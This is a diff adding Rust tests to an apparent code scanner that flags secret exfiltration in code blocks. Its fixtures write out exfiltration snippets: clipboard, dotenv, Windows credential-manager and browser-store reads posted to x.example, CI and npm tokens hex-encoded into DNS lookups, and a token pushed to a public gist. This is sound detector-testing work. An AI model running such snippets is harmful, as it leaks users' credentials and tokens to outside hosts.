@@ -180,6 +180,63 @@ fn powershell_clipboard_sent_anywhere_is_critical() {
 }
 
 #[test]
+fn the_stores_of_every_platform_are_sources() {
+    // A clipboard read by any of its calls, dotenv's whole file, the
+    // Windows credential manager, a browser's other stores.
+    for (lang, code) in [
+        (
+            "js",
+            "const t = clipboard.readSync();\nfetch(\"https://x.example/p\", { method: \"POST\", body: t });",
+        ),
+        ("python", "v = dotenv_values(\".env\")\nrequests.post(\"https://x.example/p\", json=v)"),
+        (
+            "python",
+            "c = win32cred.CredRead(\"corp\", 1)\nrequests.post(\"https://x.example/p\", data=str(c))",
+        ),
+        (
+            "python",
+            "k = open(base + \"/Local State\").read()\nrequests.post(\"https://x.example/p\", data=k)",
+        ),
+    ] {
+        assert_hit(&block(lang, code), NET, Exfiltration, Critical, 5);
+    }
+    // The same names in a call that reads nothing secret.
+    assert_absent(&block("js", "clipboard.writeSync(text);\nfetch(\"https://x.example/p\");"), NET);
+}
+
+#[test]
+fn a_keyring_token_is_judged_as_a_token_and_a_clipboard_kept_locally_is_not_high() {
+    let own = "token = keyring.get_password(\"acme-cli\", \"default\")\nr = requests.get(\"https://api.acme.example/v1/me\", headers={\"Authorization\": f\"Bearer {token}\"})";
+    assert_severity(&block("python", own), NET, Medium);
+    assert_absent(&block("python", own), "code.block-exfil");
+    let sent = "token = keyring.get_password(\"acme-cli\", \"default\")\nrequests.post(\"https://x.example/c\", data={\"t\": token})";
+    assert_severity(&block("python", sent), NET, Critical);
+    let kept = "t = pyperclip.paste()\nwith open(path, \"a\") as f:\n    f.write(t)";
+    assert_severity(&block("python", kept), "code.source-to-file", Medium);
+    let env = "t = os.environ[\"GITHUB_TOKEN\"]\nwith open(path, \"a\") as f:\n    f.write(t)";
+    assert_severity(&block("python", env), "code.source-to-file", High);
+}
+
+#[test]
+fn dns_lookups_of_every_library_are_network_sinks() {
+    for lookup in ["dns.resolver.resolve(label + \".x.example\")", "resolver.query(label + \".x.example\")"] {
+        let code = format!("t = os.environ[\"GITHUB_TOKEN\"]\nlabel = t.encode().hex()\n{lookup}");
+        assert_hit(&block("python", &code), NET, Exfiltration, Critical, 6);
+    }
+    let js = "const id = Buffer.from(process.env.NPM_TOKEN).toString(\"hex\");\ndns.promises.resolveTxt(`${id}.x.example`);";
+    assert_hit(&block("js", js), NET, Exfiltration, Critical, 5);
+}
+
+#[test]
+fn a_command_that_uploads_runs_a_secret_out() {
+    let code =
+        "t = os.environ[\"CI_JOB_TOKEN\"]\nsubprocess.run([\"gh\", \"gist\", \"create\", \"--public\", t])";
+    assert_hit(&block("python", code), "code.source-to-exec", Exfiltration, Critical, 5);
+    let local = "t = os.environ[\"CI_JOB_TOKEN\"]\nsubprocess.run([\"docker\", \"login\", \"-p\", t])";
+    assert_severity(&block("python", local), "code.source-to-exec", Medium);
+}
+
+#[test]
 fn powershell_token_in_headers_is_medium() {
     let body = block(
         "powershell",
